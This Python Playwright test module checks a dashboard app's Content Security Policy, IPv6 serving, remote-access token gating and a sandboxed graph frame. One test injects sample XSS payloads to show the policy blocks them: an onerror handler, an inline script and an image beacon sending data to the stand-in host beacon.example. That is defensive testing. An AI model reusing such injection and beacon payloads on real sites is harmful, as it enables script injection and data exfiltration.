"""In a real Chromium, ``workbench app``'s gate and page policy (``widgets.host_guard``,
``widgets.page_policy``): every tab draws under the policy with no violation reported; a script that
escaping missed would not run (an injected ``onerror`` handler or inline script is blocked, a request
to another host never leaves); ``--address ::1`` serves a browser; a server bound beyond loopback shows
nothing without its token and everything with the printed link."""
from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

CHROMIUM = Path(os.environ.get("WORKBENCH_CHROMIUM", "/usr/bin/chromium"))
if not CHROMIUM.exists():
    pytest.skip(f"Chromium not found at {CHROMIUM} (scripts/install_browser.sh)", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
pn = pytest.importorskip("panel")

from tests.test_app_browser import CHROMIUM_ARGS, TAB_MARKERS  # noqa: E402
from widgets import app as appmod  # noqa: E402


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Path:
    from scripts.make_demo_run import make_demo_run

    return make_demo_run(tmp_path_factory.mktemp("run") / "r", n_conversations=1, max_questions=2)


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


def _served(run, **kw):
    port = appmod.free_port(kw.get("address", "127.0.0.1"))
    return port, appmod.serve(run, port=port, threaded=True, **kw)


def _watched(browser):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.violations, page.requests = [], []
    page.on("console", lambda m: page.violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("request", lambda r: page.requests.append(r.url))
    return page


@pytest.fixture(scope="module")
def served(run):
    port, thread = _served(run)
    yield port
    thread.stop()
    thread.join(timeout=10)


def test_every_tab_draws_under_the_page_policy_with_no_violation(served, browser):
    page = _watched(browser)
    response = page.goto(f"http://127.0.0.1:{served}/")
    assert "nonce-" in response.headers["content-security-policy"]
    page.get_by_text("Mechanisms fired").first.wait_for(timeout=90000)
    for name, marker in TAB_MARKERS.items():
        page.locator(".bk-tab", has_text=name).click()
        page.get_by_text(marker).first.wait_for(timeout=60000)
    page.locator(".bk-tab", has_text="Results").click()
    page.locator(".js-plotly-plot").first.wait_for(timeout=60000)  # plotly.js, loaded after first paint, runs
    assert page.violations == []
    assert not [u for u in page.requests if not u.startswith(f"http://127.0.0.1:{served}/") and
                not u.startswith(("data:", "blob:", "about:"))]
    page.close()


def test_a_script_that_escaping_missed_would_not_run(served, browser):
    page = _watched(browser)
    page.goto(f"http://127.0.0.1:{served}/")
    page.get_by_text("Mechanisms fired").first.wait_for(timeout=90000)
    page.evaluate("""() => {
        const box = document.createElement('div');
        box.innerHTML = '<img src="x.png" onerror="window.__pwned = 1">';
        document.body.appendChild(box);
        const s = document.createElement('script');  // what Panel's HTML pane does with a <script> in its text
        s.textContent = 'window.__pwned = 2';
        document.body.appendChild(s);
        const img = new Image(); img.src = 'http://beacon.example/leak?x=1';
    }""")
    deadline = time.monotonic() + 30  # the policy's reports arrive as console messages, late on a loaded machine
    while time.monotonic() < deadline and not any("script-src" in v for v in page.violations):
        page.wait_for_timeout(200)
    assert page.evaluate("() => window.__pwned === undefined")
    assert not [u for u in page.requests if "beacon.example" in u and u in page.requests] or \
        any("img-src" in v or "default-src" in v for v in page.violations)
    assert any("script-src" in v for v in page.violations)  # the policy said no, twice
    page.close()


def test_the_app_serves_a_browser_on_ipv6_loopback(run, browser):
    try:
        port, thread = _served(run, address="::1")
    except OSError as exc:  # a machine without IPv6 loopback
        pytest.skip(f"no IPv6 loopback here: {exc}")
    try:
        page = _watched(browser)
        response = page.goto(f"http://[::1]:{port}/")
        assert response.status == 200
        page.get_by_text("Mechanisms fired").first.wait_for(timeout=90000)  # the websocket works too
        assert page.violations == []
        page.close()
    finally:
        thread.stop()
        thread.join(timeout=10)


def test_a_remote_bind_shows_nothing_without_its_token_and_all_with_the_link(run, browser):
    port, thread = _served(run, address="0.0.0.0", allow_remote=True)
    try:
        page = _watched(browser)
        response = page.goto(f"http://127.0.0.1:{port}/")
        assert response.status == 403 and "access token" in page.content()
        opened = page.evaluate(f"""() => new Promise(done => {{
            const ws = new WebSocket("ws://127.0.0.1:{port}/ws", ["bokeh"]);
            ws.onopen = () => done("open"); ws.onerror = () => done("refused"); }})""")
        assert opened == "refused"
        page.goto(f"http://127.0.0.1:{port}/?tab=Results&token={thread.token}")
        assert "token=" not in page.url and "tab=Results" in page.url  # sent on without the secret
        page.get_by_text("Mechanisms fired").first.wait_for(timeout=90000)  # page and websocket admitted
        cookies = {c["name"]: c for c in page.context.cookies()}
        cookie = cookies[f"workbench_token_{port}"]
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        page.close()
    finally:
        thread.stop()
        thread.join(timeout=10)


def test_the_entity_graph_frame_runs_under_the_policy(tmp_path_factory, browser):
    """The graph's sandboxed srcdoc frame inherits the page's policy: its own inline scripts carry the
    page's nonce (and only its real script tags: vis-network holds a "<script" inside a string of its own,
    which a naive rewrite broke), so vis-network draws."""
    from scripts.make_demo_run import make_demo_run

    run = make_demo_run(tmp_path_factory.mktemp("hmem") / "r", n_conversations=1, max_questions=1,
                        methods=("hmem",))
    port, thread = _served(run)
    try:
        page = _watched(browser)
        page.goto(f"http://127.0.0.1:{port}/?tab=Structures")
        page.get_by_text("Entity graph").first.wait_for(timeout=90000)
        frame = None
        for _ in range(120):
            frame = next((f for f in page.frames if f.url == "about:srcdoc"), None)
            if frame is not None:
                break
            page.wait_for_timeout(500)
        assert frame is not None, "no graph frame"
        frame.wait_for_selector("canvas", timeout=60000)
        assert frame.evaluate("() => typeof vis") == "object"
        assert page.violations == []
        page.close()
    finally:
        thread.stop()
        thread.join(timeout=10)
